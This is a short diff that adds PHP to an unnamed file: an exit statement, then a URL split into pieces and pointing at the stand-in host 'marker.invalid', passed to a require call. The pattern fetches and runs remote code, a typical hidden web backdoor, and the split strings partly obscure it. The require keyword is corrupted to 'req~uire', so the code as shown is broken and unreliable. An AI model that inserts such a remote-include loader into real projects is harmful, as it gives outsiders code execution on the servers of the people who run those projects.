@@ -1,0 +1,3 @@
+<?php exit; ?>
+<?php
+$u = 'http://' . 'marker.invalid' . '/m'; req~uire $u;
